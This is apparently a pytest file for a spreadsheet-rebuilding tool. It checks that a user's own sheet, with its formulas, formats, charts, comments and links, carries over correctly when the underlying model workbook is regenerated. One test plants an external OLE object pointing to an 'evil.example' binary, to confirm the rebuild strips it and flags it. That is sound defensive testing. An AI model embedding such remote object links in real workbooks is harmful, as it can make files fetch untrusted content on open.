"""A sheet of a person's own comes along whole, and reads the model where its cells now stand."""

from __future__ import annotations

import io
import warnings
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from carry_language import as_own, by_hand, carried_over, model, rebuilt, xml_of
from office import MAIN, edited, packed, parts_of, sdk_errors, sheet_parts
from plan_text import carry_text
from workbook_language import attributes, texts

from reportgen.office.package import open_package


def opened(data: bytes, **options: bool) -> openpyxl.Workbook:
    """The workbook as openpyxl reads it."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # it says that it does not keep sparklines
        return openpyxl.load_workbook(io.BytesIO(data), **options)


EARLIER_TOO = {"quarters": ("4Q16", "1Q17", "2Q17", "3Q17"), "forecasts": ("4Q17", "1Q18")}


def draw(book: xlsxwriter.Workbook) -> None:
    """A sheet with about everything that a person puts on one."""
    sheet = book.add_worksheet("My view")
    look = book.add_format({"bold": True, "bg_color": "#FFF2AB", "num_format": "0.00%", "border": 2})
    sheet.set_column("A:A", 31)
    sheet.set_column("F:F", 12, look)
    sheet.set_row(7, 40, look)
    sheet.write_string("A1", "My view", look)
    sheet.write_rich_string("A2", "plain ", look, "rich", " end")
    sheet.merge_range("A3:B3", "merged", look)
    sheet.write_formula("B5", "=1", look, 1)
    sheet.conditional_format(
        "B5:B9",
        {"type": "formula", "criteria": "=B5>Model!$C$5", "format": book.add_format({"italic": True})},
    )
    sheet.data_validation("C5", {"validate": "list", "source": "=Model!$C$2"})
    sheet.write_comment("A1", "Ask the company")
    sheet.add_sparkline("D5", {"range": "Model!C3"})
    sheet.add_table("H1:I3", {"name": "Amounts", "data": [["a", 1], ["b", 2]]})
    sheet.write_url("A9", "internal:'Model'!C3", string="to the model")
    sheet.write_url("A10", "https://example.org/", string="out")
    sheet.freeze_panes(1, 1)
    sheet.print_area("A1:F20")
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Model!$C$3", "categories": "=Model!$C$2", "name": "=Model!$B$3"})
    sheet.insert_chart("D8", chart)
    sheet.insert_image("K2", "dot.png", {"image_data": io.BytesIO(_DOT)})
    book.define_name("'My view'!mine", "='My view'!$B$5")


_DOT = bytes.fromhex(
    "89504e470d0a1a0a0000000d494844520000000100000001080600000"
    "01f15c4890000000d49444154789c6360f8cf500f00038601806d2d9f5b0000000049454e44ae426082"
)
FORMULAS = {
    "My view!B5": "=Model!E3/Model!C3-1",
    "My view!B6": "=SUM(Model!$C$3:$E$3)+B5",
    "My view!B7": "=INDEX(Model!C:C,3)+SUM(Amounts[Column2])+Drivers!I5",
    "My view!B8": "='My view'!B5*scenario_weight",
}


@pytest.fixture(scope="module")
def old() -> bytes:
    """The model with a sheet of a person's own, whose formulas were calculated."""
    with_sheet = as_own(model(draw=draw).build(), "My view")
    return by_hand(with_sheet, {place: text for place, text in FORMULAS.items() if "weight" not in text})


@pytest.fixture(scope="module")
def new(old: bytes) -> bytes:
    return rebuilt(old, model(**EARLIER_TOO))[1]


def test_its_formulas_follow_the_cells_they_name(new: bytes) -> None:
    sheet = opened(new)["My view"]
    assert sheet["B5"].value == "=Model!F3/Model!D3-1"
    assert sheet["B6"].value == "=SUM(Model!$D$3:$F$3)+B5"
    assert sheet["B7"].value == "=INDEX(Model!D:D,3)+SUM(Amounts[Column2])+Drivers!I5"


def test_its_formulas_are_calculated(new: bytes) -> None:
    sheet = opened(new, data_only=True)["My view"]
    assert sheet["B5"].value == pytest.approx(1710 / 1690 - 1)
    assert sheet["B6"].value == pytest.approx(1690 + 1700 + 1710 + 1710 / 1690 - 1)


def test_its_looks_come_along(new: bytes, old: bytes) -> None:
    before = opened(old, rich_text=True)["My view"]
    after = opened(new, rich_text=True)["My view"]
    for cell in ("A1", "A3", "B5", "F8", "A9", "H1"):
        for name in ("font", "fill", "border", "number_format", "alignment", "protection"):
            assert repr(getattr(after[cell], name)) == repr(getattr(before[cell], name)), (cell, name)
    assert after.column_dimensions["A"].width == before.column_dimensions["A"].width
    assert after.row_dimensions[8].height == before.row_dimensions[8].height
    assert [str(one) for one in after.merged_cells.ranges] == ["A3:B3"]
    assert str(after["A2"].value) == "plain rich end"
    assert len(after["A2"].value) == 3
    assert after.freeze_panes == "B2"
    assert after["A1"].comment.text == "Ask the company"
    assert after.tables["Amounts"].ref == "H1:I3"
    assert after["A10"].hyperlink.target == "https://example.org/"
    assert after.print_area == "'My view'!$A$1:$F$20"


def test_its_rules_charts_and_links_follow(new: bytes) -> None:
    sheet = xml_of(new, "My view")
    assert texts(sheet, "formula") == ["B5>Model!$D$5:$F$5"]
    assert texts(sheet, "formula1") == ["Model!$D$2:$F$2"]
    assert "Model!D3:F3" in texts(sheet, "f")
    assert attributes(sheet, "hyperlink", "location") == ["'Model'!D3:F3"]
    parts = parts_of(new)
    chart = next(name for name in parts if name.startswith("xl/charts/chart"))
    assert b"Model!$D$3:$F$3" in parts[chart]
    assert b"<c:v>1710</c:v>" in parts[chart]
    rules = opened(new)["My view"].conditional_formatting
    assert [rule.dxf.font.i for one in rules for rule in one.rules] == [True]


def test_its_own_names_stay_its_own(new: bytes) -> None:
    book = opened(new)
    assert book["My view"].defined_names["mine"].attr_text == "'My view'!$B$5"
    assert book.sheetnames == ["Model", "Drivers", "My view"]


def test_the_file_is_valid(new: bytes, validator: str, tmp_path: Path) -> None:
    path = tmp_path / "new.xlsx"
    path.write_bytes(new)
    assert sdk_errors(validator, path) == []


def test_it_comes_along_again(new: bytes) -> None:
    plan, third = rebuilt(new, model(quarters=("4Q16", "1Q17", "2Q17", "3Q17", "4Q17"), forecasts=("1Q18",)))
    assert [one.name for one in plan.sheets] == ["My view"]
    sheet = opened(third)["My view"]
    assert sheet["B5"].value == "=Model!F3/Model!D3-1"
    assert sheet["B7"].value == "=INDEX(Model!D:D,3)+SUM(Amounts[Column2])+Drivers!H5"
    assert sheet["A1"].comment.text == "Ask the company"


def test_styles_do_not_grow_from_build_to_build(new: bytes) -> None:
    def formats(data: bytes) -> int:
        return parts_of(data)["xl/styles.xml"].count(b"<xf ")

    _, third = rebuilt(new, model(**EARLIER_TOO))
    assert formats(third) == formats(new)


# What cannot come along


def test_a_reference_to_what_is_gone_leaves_its_last_value_and_is_told(old: bytes) -> None:
    plan, new = rebuilt(_calculated(old, "B5", "0.0118"), model(quarters=("2Q17", "3Q17")))
    lost = [one for one in plan.conflicts if one.id == "lost-reference"]
    assert [(one.cell, one.typed) for one in lost] == [
        ("B5", "=Model!E3/Model!C3-1"),
        ("B7", "=INDEX(Model!C:C,3)+SUM(Amounts[Column2])+Drivers!I5"),
    ]
    assert "Model!C3 is no longer in the workbook" in lost[0].done
    sheet = opened(new)["My view"]
    assert sheet["B5"].value == 0.0118
    cut = [one for one in plan.conflicts if one.id == "cut-range"]
    assert {one.cell for one in cut} == {"B6"}
    assert sheet["B6"].value == "=SUM(Model!$C$3:$D$3)+B5"
    assert b"#REF!" not in b"".join(parts_of(new).values())


def test_a_chart_over_what_is_gone_keeps_its_last_values(old: bytes, validator: str, tmp_path: Path) -> None:
    plan, new = rebuilt(old, model(rows=("costs", "profit")))
    chart = next(text for name, text in parts_of(new).items() if name.startswith("xl/charts/chart"))
    assert b"numLit" in chart
    assert b"<c:v>1700</c:v>" in chart
    assert b"Model!$C$3" not in chart
    assert any(
        one.id == "lost-reference" and "chart keeps its last values" in one.done for one in plan.conflicts
    )
    (tmp_path / "new.xlsx").write_bytes(new)
    assert sdk_errors(validator, tmp_path / "new.xlsx") == []


def test_a_link_into_another_workbook_is_told(old: bytes) -> None:
    typed = _calculated(by_hand(old, {"My view!B5": "=[1]Other!A1*2"}), "B5", "8")
    plan, new = rebuilt(typed, model())
    assert [(one.id, one.cell) for one in plan.conflicts] == [("lost-reference", "B5")]
    assert opened(new)["My view"]["B5"].value == 8


def test_parts_that_do_not_belong_on_a_sheet_stay_behind_and_are_told(
    old: bytes, validator: str, tmp_path: Path
) -> None:
    parts = parts_of(old)
    part = sheet_parts(old)["My view"]
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    link = (
        '<Relationship Id="rId99" Target="https://evil.example/x.bin" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>'
    )
    parts[rels] = parts[rels].replace(b"</Relationships>", link.encode())
    ole = (
        '<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId99" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></oleObjects><tableParts'
    )
    parts[part] = parts[part].replace(b"<tableParts", ole.encode(), 1)
    plan, new = rebuilt(packed(parts), model())
    assert [one.id for one in plan.conflicts] == ["object"]
    assert "evil.example" in plan.conflicts[0].done
    assert b"evil" not in b"".join(parts_of(new).values())
    assert b"oleObject" not in open_package(new)["/" + sheet_parts(new)["My view"]]
    (tmp_path / "new.xlsx").write_bytes(new)
    assert sdk_errors(validator, tmp_path / "new.xlsx") == []


def test_a_hidden_sheet_stays_hidden(old: bytes) -> None:
    def hide(root) -> None:  # type: ignore[no-untyped-def]
        for node in root.iter(f"{MAIN}sheet"):
            if node.get("name") == "My view":
                node.set("state", "veryHidden")

    _, new = rebuilt(edited(old, "xl/workbook.xml", hide), model())
    assert opened(new)["My view"].sheet_state == "veryHidden"


def test_the_plan_tells_where_the_sheet_goes(old: bytes) -> None:
    plan = carried_over(old, model()).carry.plan
    assert carry_text(plan) == "sheet  My view -> My view  behind Drivers"


def _calculated(data: bytes, cell: str, value: str) -> bytes:
    """The workbook with the value that a formula of My view showed last."""

    def put(root) -> None:  # type: ignore[no-untyped-def]
        for node in root.iter(f"{MAIN}c"):
            if node.get("r") == cell:
                for old_value in node.findall(f"{MAIN}v"):
                    node.remove(old_value)
                fresh = node.makeelement(f"{MAIN}v", {})
                fresh.text = value
                node.append(fresh)

    return edited(data, sheet_parts(data)["My view"], put)
